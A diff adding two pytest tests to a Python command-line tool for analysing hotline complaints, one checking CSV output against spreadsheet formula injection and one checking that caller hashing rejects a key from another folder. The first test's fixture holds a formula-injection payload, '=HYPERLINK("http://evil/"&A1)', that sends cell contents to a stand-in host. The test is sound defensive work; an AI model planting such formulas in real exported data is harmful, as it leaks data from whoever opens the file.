@@ -229,6 +229,49 @@ def test_a_missing_file_and_a_wrong_column_are_told(
     assert "找不到工单编号、诉求内容这一列" in capsys.readouterr().err
 
 
+def test_words_of_a_caller_are_not_run_by_a_spreadsheet(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    text = '=HYPERLINK("http://evil/"&A1)清河里物业不修电梯'
+    rows = [(f"W{at}", f"2025-05-0{at} 08:00:00", text, "否", f"1390000000{at}") for at in range(1, 5)]
+    taken_in(tmp_path / "store", a_file(tmp_path / "a.csv", *rows))
+    with Store.open(tmp_path / "store") as kept:
+        keep_estates(kept, [Estate("E1", "清河里")])
+    assert main(["hotline", "topics", str(tmp_path / "store"), "--format", "csv"]) == 0
+    (told,) = csv.DictReader(capsys.readouterr().out.splitlines())
+    assert told["example"].startswith("'=HYPERLINK")
+    assert told["complaints"] == "4"
+
+
+def test_callers_are_not_hashed_with_the_key_of_another_folder(
+    store: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Started from elsewhere, nobody would be known again."""
+    kept, more = Path(shutil.copytree(store, tmp_path / "store")), a_file(tmp_path / "a.csv", COMPLAINTS[2])
+    (tmp_path / "elsewhere").mkdir()
+    monkeypatch.chdir(tmp_path / "elsewhere")
+    monkeypatch.setenv("HUIYIN_KERNELS", "python")
+    for name in ("HUIYIN_VAR", "HUIYIN_CALLER_KEY"):
+        monkeypatch.delenv(name, raising=False)
+    command = [
+        "hotline",
+        "enrich",
+        str(more),
+        "--estates",
+        str(store.parent / "estates.csv"),
+        "--out",
+        str(kept),
+    ]
+    assert main(command) == 2
+    told = capsys.readouterr().err
+    assert "已生成换算来电人的密钥" in told
+    assert "另一把密钥" in told
+    assert len(Store(kept).imports) == 1
+    assert main(["hotline", "new-key", str(kept)]) == 0
+    assert main(command) == 0
+    assert len(Store(kept).imports) == 2
+
+
 def test_no_settings_and_no_django_are_loaded(store: Path) -> None:
     code = (
         "import sys; from huiyin.config.cli import main; main(['hotline', 'imports', sys.argv[1]]); "
